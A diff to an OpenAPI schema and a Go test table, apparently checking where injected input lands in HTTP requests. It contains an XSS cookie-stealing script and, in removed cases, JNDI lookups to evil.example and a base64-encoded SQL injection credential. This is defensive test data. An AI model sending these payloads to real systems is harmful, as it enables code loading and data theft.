@@ -56,7 +56,6 @@ components:
         comment: {type: string}
         kind: {type: string, enum: [a, "<script>alert(document.cookie)</script>"]}
         count: {type: integer}
-        raw: {type: string, format: binary}
         nested: {type: object, properties: {note: {type: string}, list: {type: array, items: {type: string}}}}
         open: {type: object}
         choice: {oneOf: [{type: string, format: uuid}, {type: object, properties: {text: {type: string}}}]}
@@ -109,11 +108,6 @@ func TestPlaces(t *testing.T) {
 		{name: "referer", method: "GET", target: "/things/1", field: "Referer", value: "https://a.example/?x=" + escape(script), in: "header"},
 		{name: "cookie", method: "GET", target: "/things/1", field: "Cookie", value: "theme=" + escape(script), in: "cookie", of: "theme"},
 		{name: "undeclared-cookie", method: "GET", target: "/things/1", field: "Cookie", value: "a=b; other=" + escape(script), in: "cookie"},
-		{name: "cookie-name", method: "GET", target: "/things/1", field: "Cookie", value: "a=b; ${jndi:ldap://evil.example/a}=1", in: "cookie"},
-		{name: "credential", method: "GET", target: "/things/1", field: "Authorization", value: "Bearer ${jndi:ldap://evil.example/a}", in: "header"},
-		{name: "credential-passes", method: "GET", target: "/things/1", field: "Authorization", value: "Basic JyBVTklPTiBTRUxFQ1QgcGFzc3dvcmQgRlJPTSB1c2VycyAtLQ=="},
-		{name: "media-type", method: "POST", target: "/things", media: `application/json; x="${jndi:ldap://evil.example/a}"`, body: `{}`, in: "header"},
-		{name: "bytes-in-json", method: "POST", target: "/things", media: json, body: `{"raw":"` + hostile + `"}`, in: "body", pointer: "/raw"},
 		{name: "json", method: "POST", target: "/things", media: json, body: `{"comment":"` + hostile + `"}`, in: "body", pointer: "/comment"},
 		{name: "json-escaped", method: "POST", target: "/things", media: json, body: `{"comment":"\u003cscript\u003ealert(document.cookie)\u003c/script\u003e"}`, in: "body", pointer: "/comment"},
 		{name: "json-in-json", method: "POST", target: "/things", media: json, body: `{"comment":"` + quoted(`{"a":["`+hostile+`"]}`) + `"}`, in: "body", pointer: "/comment"},
